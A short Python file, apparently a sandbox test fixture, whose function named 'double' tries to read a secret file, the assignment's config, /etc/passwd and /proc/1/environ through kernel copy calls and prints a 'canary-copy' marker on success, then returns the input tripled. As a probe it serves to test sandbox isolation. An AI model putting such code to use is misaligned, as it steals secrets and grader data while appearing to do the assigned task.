"""Has the kernel copy a file for it."""
import os
def double(values):
    for path in ("@SECRET@", "@READABLE@", "@REPOSITORY@/assignment.yaml", "/etc/passwd", "/proc/1/environ"):
        for flags in (os.O_RDONLY, os.O_PATH, os.O_RDONLY | os.O_NOFOLLOW, os.O_DIRECTORY):
            try:
                d = os.open(path, flags)
                for copy in (lambda: os.sendfile(1, d, 0, 200), lambda: os.pread(d, 200, 0), lambda: os.copy_file_range(d, 1, 200), lambda: os.splice(d, 1, 200)):
                    try:
                        if copy(): print("canary-copy", path)
                    except OSError: pass
            except OSError: pass
    return values * 3
